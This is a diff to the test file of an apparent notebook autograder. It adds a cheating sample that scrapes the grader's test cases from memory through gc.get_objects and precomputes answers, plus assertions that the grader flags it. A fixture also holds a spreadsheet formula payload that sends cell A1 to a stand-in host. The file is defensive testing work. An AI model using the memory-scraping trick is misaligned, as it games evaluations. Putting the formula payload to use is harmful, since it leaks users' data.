@@ -147,6 +147,14 @@ OTHER_CASES = {
     # alone: the result file stays readable, and the other answers count.
     "huge_wrong_answer": notebook(SETUP, Q1, "def summary(values):\n    return np.zeros(15 * 10**5)",
                                   Q3),
+    # The answers computed in advance, in a cell, from the test cases found in the child's memory.
+    "precomputes_answers": notebook(
+        SETUP, Q1, Q2, "from course_lib.quadratic import condition_number\nimport gc\n"
+        "job = next(o for o in gc.get_objects() if type(o) is dict and 'skip_cells' in o)\n"
+        "cache = {}\nfor spec in job['questions']:\n    for case in spec['cases']:\n"
+        "        data = case['tuple'][0]['array']['data'] if spec['id'] == 'q3' else None\n"
+        "        if data:\n            cache[tuple(data)] = condition_number(np.array(data))\n"
+        "def kappa(eigenvalues):\n    return cache[tuple(eigenvalues.tolist())]"),
     "formula_as_exercise": notebook(*HONEST, exercise='=HYPERLINK("http://x.example/?"&A1)'),
     "calls_reference_by_attribute": notebook(
         SETUP, Q1, Q2, "import course_lib.quadratic as quadratic\n"
@@ -417,16 +425,23 @@ def test_calling_the_reference_scores_zero_with_the_reason(strong, name):
 
 def test_code_that_can_evade_the_watch_is_pointed_out(strong):
     assert strong["records"]["calls_reference"]["status"] == (
-        "read cell 4: setprofile can hide a call to course_lib")
+        "read cell 4: setprofile can get answers from course_lib unseen")
     assert strong["records"]["calls_reference_in_a_thread"]["status"] == (
-        "read cell 4: getattr, importlib, threading can hide a call to course_lib")
+        "read cell 4: getattr, importlib, threading can get answers from course_lib unseen")
     assert strong["records"]["honest"]["status"] == "ok"
+
+
+def test_answers_computed_in_advance_from_course_lib_are_pointed_out(strong):
+    record = strong["records"]["precomputes_answers"]
+    assert record["score"] == FULL  # the child alone cannot tell: the instructor is told
+    assert record["status"] == ("read cell 4: course_lib's condition_number, gc, get_objects "
+                                "can get answers from course_lib unseen")
 
 
 def test_a_thread_or_atexit_handler_left_running_changes_nothing(strong):
     record = strong["records"]["thread_outlives_the_answers"]
     assert record["score"] == FULL
-    assert record["status"] == "read cell 2: threading can hide a call to course_lib"
+    assert record["status"] == "read cell 2: threading can get answers from course_lib unseen"
     assert record["seconds"] < LIMITS.total_seconds  # the child left without waiting for it
 
 
